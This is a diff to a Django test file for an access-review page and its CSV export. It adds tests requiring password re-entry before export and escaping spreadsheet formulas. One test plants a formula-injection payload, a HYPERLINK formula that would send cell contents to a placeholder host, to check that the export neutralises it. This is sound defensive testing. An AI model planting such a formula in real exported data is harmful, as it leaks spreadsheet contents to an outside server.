@@ -125,13 +125,31 @@ def test_second_lead_approves_from_the_page_but_not_the_requester(sw: ShareWorld
 def test_access_review_and_csv_for_leads_and_auditors(sw: ShareWorld, login: Any, who: str) -> None:
     sw.consent_to_foreign_team()
     sw.grant()
-    client = login(getattr(sw.world, who))
+    client = login(getattr(sw.world, who), sudo=True)
     page = client.get(reverse("sharing:review"))
     assert page.status_code == 200 and "joint complaint" in page.content.decode()
     export = client.get(reverse("sharing:review"), {"format": "csv"})
     assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
     assert "Dhaka team" in export.content.decode()
     assert AuditEvent.objects.filter(action=Action.ACCESS_REVIEW_EXPORTED).count() == 1
+
+
+def test_access_review_csv_asks_for_the_password_again_first(sw: ShareWorld, login: Any) -> None:
+    sw.consent_to_foreign_team()
+    sw.grant()
+    export = login(sw.world.lead).get(reverse("sharing:review"), {"format": "csv"})
+    assert export.status_code == 302 and reverse("accounts:sudo") in export["Location"]
+    assert not AuditEvent.objects.filter(action=Action.ACCESS_REVIEW_EXPORTED).exists()
+
+
+def test_access_review_csv_does_not_let_a_purpose_run_as_a_formula(sw: ShareWorld, login: Any) -> None:
+    sw.consent_to_foreign_team()
+    grant = sw.grant()
+    grant.purpose = '=HYPERLINK("http://x/?"&A1,"open")'
+    grant.save(update_fields=["purpose"])
+    body = login(sw.world.lead, sudo=True).get(reverse("sharing:review"), {"format": "csv"}).content.decode()
+    assert "'=HYPERLINK" in body
+    assert not any(cell.startswith("=") for line in body.splitlines() for cell in line.split(","))
 
 
 @pytest.mark.parametrize("who", ["member", "mhpss", "other_member", "outsider"])
